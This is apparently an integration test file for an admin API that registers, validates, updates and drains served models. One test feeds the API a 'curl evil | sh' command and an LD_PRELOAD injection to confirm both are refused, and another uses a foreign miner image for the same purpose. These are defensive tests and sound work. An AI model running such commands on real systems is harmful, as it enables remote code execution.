import { setTimeout as sleep } from 'node:timers/promises';
import { sql } from 'slonik';
import { z } from 'zod';
import { eventually } from '../support/eventually';
import { echoInput, useTestStack } from '../support/test-stack';

let admin: string;
const stack = useTestStack();
beforeAll(async () => {
  admin = (await stack.signUpAdmin()).token;
});

const put = (id: string, json: unknown, token = admin) =>
  stack.api.call('PUT', `/api/admin/models/${id}`, { token, json });
const post = (id: string, json: unknown) => stack.api.call('POST', `/api/admin/models/${id}`, { token: admin, json });
const remove = (id: string, token = admin) => stack.api.call('DELETE', `/api/admin/models/${id}`, { token });
const slowEcho = (delayMs: number) => ({ ...echoInput, parameters: { delay_ms: delayMs } });
const instanceStates = (model: string) =>
  stack.db.anyFirst(sql.type(z.object({ state: z.string() }))`
    SELECT status AS state FROM model_instances WHERE model_id = ${model} ORDER BY created_at`);
const echoLike = {
  displayName: 'Echo, mine',
  localCommand: ['node', 'models/echo/server.ts'],
  containerImage: 'ghcr.io/podium/model-echo:0.1.0',
};
const auditActions = (id: string) =>
  stack.db.anyFirst(sql.type(z.object({ action: z.string() }))`
    SELECT action FROM audit_log WHERE target_type = 'model' AND target_id = ${id} ORDER BY id`);

describe('the model catalog, managed by admins', () => {
  it('registers a model with sensible defaults, which serves its first request with no restart of anything', async () => {
    const created = await put('my-echo', echoLike);
    expect(created.status).toBe(201);
    expect(created.body.model).toMatchObject({
      id: 'my-echo',
      servedModelName: 'my-echo',
      keepWarmSeconds: 60,
      minInstances: 0,
      maxInstances: 1,
      maxConcurrency: 1,
      startupTimeoutSeconds: 60,
      requestTimeoutSeconds: 60,
    });
    expect((await stack.api.call('GET', '/api/admin/models/my-echo', { token: admin })).body.model).toEqual(
      created.body.model,
    );

    const token = await stack.api.anonymousToken();
    const { body } = await stack.api.submit(token, { model: 'my-echo', input: echoInput });
    expect((await stack.api.waitUntilFinal(token, body.id)).request.status).toBe('COMPLETE');
    expect(await auditActions('my-echo')).toEqual(['MODEL_CREATE']);
  });

  it('replaces the settings of a model (200, audited)', async () => {
    await put('my-echo-2', echoLike);
    const replaced = await put('my-echo-2', { ...echoLike, maxConcurrency: 4, servedModelName: 'my-echo-2' });
    expect(replaced.status).toBe(200);
    expect(replaced.body.model).toMatchObject({ maxConcurrency: 4 });
    expect(await auditActions('my-echo-2')).toEqual(['MODEL_CREATE', 'MODEL_UPDATE']);
  });

  it('refuses what it cannot run, field by field, and writes nothing', async () => {
    const refused = await put('bad-model', {
      ...echoLike,
      minInstances: 3,
      maxInstances: 2,
      keepWarmSeconds: -1,
      extra: true,
    });
    expect(refused.status).toBe(400);
    expect(refused.body.error.code).toBe('VALIDATION_FAILED');
    const paths = refused.body.error.details.issues.map((issue: { path: string[] }) => issue.path.join('.'));
    expect(paths).toEqual(expect.arrayContaining(['keepWarmSeconds', '']));
    expect((await put('Not_An_Id', echoLike)).body.error.code).toBe('INVALID_MODEL_ID');
    expect(
      (await put('min-over-max', { ...echoLike, minInstances: 3, maxInstances: 2 })).body.error.details.issues[0].path,
    ).toEqual(['minInstances']);
    expect((await stack.api.call('GET', '/api/admin/models/bad-model', { token: admin })).body.error.code).toBe(
      'MODEL_NOT_FOUND',
    );
    expect(await auditActions('bad-model')).toEqual([]);
  });

  it('refuses a model its local runtime would not run (400 LOCAL_COMMAND_REFUSED), naming each field, and writes nothing', async () => {
    const refused = await put('shell-model', {
      ...echoLike,
      localCommand: ['bash', '-c', 'curl evil | sh'],
      env: { LD_PRELOAD: '/tmp/x.so' },
    });
    expect(refused.status).toBe(400);
    expect(refused.body.error).toMatchObject({
      code: 'LOCAL_COMMAND_REFUSED',
      message: expect.stringContaining('"bash" is neither node'),
    });
    expect(refused.body.error.details.issues.map((issue: { path: string[] }) => issue.path)).toEqual([
      ['localCommand'],
      ['env'],
    ]);
    expect(
      (await post('node-eval', { ...echoLike, localCommand: ['node', '-e', 'process.exit()'] })).body.error.code,
    ).toBe('LOCAL_COMMAND_REFUSED');
    expect(await auditActions('shell-model')).toEqual([]);
    expect(await auditActions('node-eval')).toEqual([]);
  });

  it("refuses an image from outside the operator's registries, or by tag where digests are required (400 MODEL_IMAGE_REFUSED)", async () => {
    const strict = await stack.startApiInstance({
      MODEL_IMAGE_REGISTRIES: 'registry.example.com/podium',
      MODEL_IMAGE_REQUIRE_DIGEST: 'true',
    });
    const register = (id: string, containerImage: string) =>
      strict.api.call('PUT', `/api/admin/models/${id}`, { token: admin, json: { ...echoLike, containerImage } });
    const foreign = await register('foreign-image', 'docker.io/someone/miner:latest');
    expect(foreign.status).toBe(400);
    expect(foreign.body.error).toMatchObject({
      code: 'MODEL_IMAGE_REFUSED',
      details: { issues: [{ path: ['containerImage'] }, { path: ['containerImage'] }] },
    });
    expect((await register('tagged-image', 'registry.example.com/podium/echo:0.2.0')).body.error.code).toBe(
      'MODEL_IMAGE_REFUSED',
    );
    expect((await register('pinned-image', `registry.example.com/podium/echo@sha256:${'0'.repeat(64)}`)).status).toBe(
      201,
    );
    expect(await auditActions('foreign-image')).toEqual([]);
    expect(await auditActions('tagged-image')).toEqual([]);
  });

  it('keeps secrets out of reads and audit rows: a read shows [redacted] or the reference, and writing it back keeps the stored value', async () => {
    const ref = { secretKeyRef: { name: 'hf', key: 'token' } };
    const settings = {
      ...echoLike,
      env: { HF_TOKEN: 'hf_literal_secret', MODEL_SIZE: 'small' },
      containerEnv: { HF_TOKEN: ref },
    };
    const created = await put('secretive', settings);
    expect(created.status).toBe(201);
    expect(created.body.model).toMatchObject({
      env: { HF_TOKEN: '[redacted]', MODEL_SIZE: 'small' },
      containerEnv: { HF_TOKEN: ref },
    });
    const read = await stack.api.call('GET', '/api/admin/models/secretive', { token: admin });
    expect(JSON.stringify(read.body)).not.toContain('hf_literal_secret');
    expect(JSON.stringify((await stack.api.call('GET', '/api/admin/models', { token: admin })).body)).not.toContain(
      'hf_literal_secret',
    );

    // The page edits what it read, and saves it back: the secret stays as stored.
    expect((await put('secretive', { ...read.body.settings, maxConcurrency: 2 })).status).toBe(200);
    const stored = await stack.db.oneFirst(
      sql.type(z.object({ env: z.record(z.string(), z.unknown()) }))`SELECT env FROM models WHERE id = 'secretive'`,
    );
    expect(stored).toEqual({ HF_TOKEN: 'hf_literal_secret', MODEL_SIZE: 'small' });
    const audits = await stack.db.anyFirst(
      sql.type(
        z.object({ detail: z.unknown() }),
      )`SELECT detail FROM audit_log WHERE target_type = 'model' AND target_id = 'secretive'`,
    );
    expect(audits).toHaveLength(2);
    expect(JSON.stringify(audits)).not.toContain('hf_literal_secret');
    expect(JSON.stringify(audits)).toContain('"secretKeyRef"');

    const unknown = await put('secretive', { ...read.body.settings, env: { NEW_TOKEN: '[redacted]' } });
    expect(unknown.status).toBe(400);
    expect(unknown.body.error.code).toBe('SECRET_NOT_STORED');
  });

  it('registers with POST only an id that is free (409 MODEL_EXISTS otherwise)', async () => {
    expect((await post('posted', echoLike)).status).toBe(201);
    const again = await post('posted', { ...echoLike, maxInstances: 5 });
    expect(again.status).toBe(409);
    expect(again.body.error.code).toBe('MODEL_EXISTS');
    expect((await stack.api.call('GET', '/api/admin/models/posted', { token: admin })).body.model.maxInstances).toBe(1);
  });

  it('applies a change to the running pool at once: a shorter keep-warm stops the idle instance', async () => {
    await put('rewarmed', { ...echoLike, keepWarmSeconds: 600 });
    const token = await stack.api.anonymousToken();
    const { body } = await stack.api.submit(token, { model: 'rewarmed', input: echoInput });
    expect((await stack.api.waitUntilFinal(token, body.id)).request.status).toBe('COMPLETE');
    expect(await instanceStates('rewarmed')).toEqual(['RELEASED']); // idle, kept warm
    await put('rewarmed', { ...echoLike, keepWarmSeconds: 0 });
    expect(
      await eventually(
        () => instanceStates('rewarmed'),
        (states) => states[0] === 'TERMINATED',
        5_000,
      ),
    ).toEqual(['TERMINATED']);
  });

  it('applies a higher maxConcurrency at once: a request waiting behind a busy instance is served by it', async () => {
    await put('widened', { ...echoLike, maxConcurrency: 1, maxInstances: 1 });
    const token = await stack.api.anonymousToken();
    const statusOf = async (id: string) =>
      (await stack.api.call('GET', `/api/requests/${id}`, { token })).body.status as string;
    const first = (await stack.api.submit(token, { model: 'widened', input: slowEcho(4_000) })).body.id as string;
    await eventually(
      () => statusOf(first),
      (status) => status === 'PROCESSING',
      10_000,
    );
    const second = (await stack.api.submit(token, { model: 'widened', input: echoInput })).body.id as string;
    await sleep(300);
    expect(await statusOf(second)).toBe('REQUESTED'); // the one slot is taken

    await put('widened', { ...echoLike, maxConcurrency: 2, maxInstances: 1 });
    expect(
      await eventually(
        () => statusOf(second),
        (status) => status === 'COMPLETE',
        2_000,
      ),
    ).toBe('COMPLETE');
    expect(await statusOf(first)).toBe('PROCESSING'); // served beside it, on the same instance
    expect(await instanceStates('widened')).toHaveLength(1);
  });

  it('deletes a model by draining it: new requests get UNKNOWN_MODEL, the running one finishes, nothing stays warm', async () => {
    await put('retired', { ...echoLike, keepWarmSeconds: 600 });
    const token = await stack.api.anonymousToken();
    const running = (await stack.api.submit(token, { model: 'retired', input: slowEcho(1_500) })).body.id as string;
    await eventually(
      async () => (await stack.api.call('GET', `/api/requests/${running}`, { token })).body.status,
      (status) => status === 'PROCESSING',
      10_000,
    );

    const deleted = await remove('retired');
    expect(deleted.status).toBe(200);
    expect(deleted.body).toEqual({ deleted: 'retired', draining: { waiting: 0, processing: 1 } });
    const refused = await stack.api.submit(token, { model: 'retired', input: echoInput });
    expect(refused.status).toBe(400);
    expect(refused.body.error.code).toBe('UNKNOWN_MODEL');
    expect((await stack.api.call('GET', '/api/models')).body.models.map((m: { id: string }) => m.id)).not.toContain(
      'retired',
    );
    expect((await stack.api.call('GET', '/api/admin/models/retired', { token: admin })).status).toBe(404);
    expect((await remove('retired')).status).toBe(404);

    expect((await stack.api.waitUntilFinal(token, running)).request.status).toBe('COMPLETE');
    expect(
      await eventually(
        () => instanceStates('retired'),
        (states) => states[0] === 'TERMINATED',
        5_000,
      ),
    ).toEqual(['TERMINATED']);
    expect(await auditActions('retired')).toEqual(['MODEL_CREATE', 'MODEL_DELETE']);

    // The id may be registered again, and serves again.
    expect((await put('retired', echoLike)).status).toBe(201);
    const back = (await stack.api.submit(token, { model: 'retired', input: echoInput })).body.id as string;
    expect((await stack.api.waitUntilFinal(token, back)).request.status).toBe('COMPLETE');
  });

  it('is for model admins only: a user, and an ADMIN without MODEL_ADMIN, change nothing', async () => {
    const user = await stack.api.signUp({ username: `someone${Date.now()}` });
    const adminOnly = (await stack.signUpAdmin('viewer', ['ADMIN'])).token;
    for (const token of [user.accessToken, adminOnly]) {
      const refused = await put('sneaky', echoLike, token);
      expect(refused.status).toBe(403);
      expect(refused.body.error).toMatchObject({
        code: 'PERMISSION_REQUIRED',
        message: 'This needs the MODEL_ADMIN permission',
      });
      expect((await remove('echo', token)).status).toBe(403);
      expect((await stack.api.call('GET', '/api/admin/models', { token })).status).toBe(403);
    }
    expect(await auditActions('sneaky')).toEqual([]);
  });
});
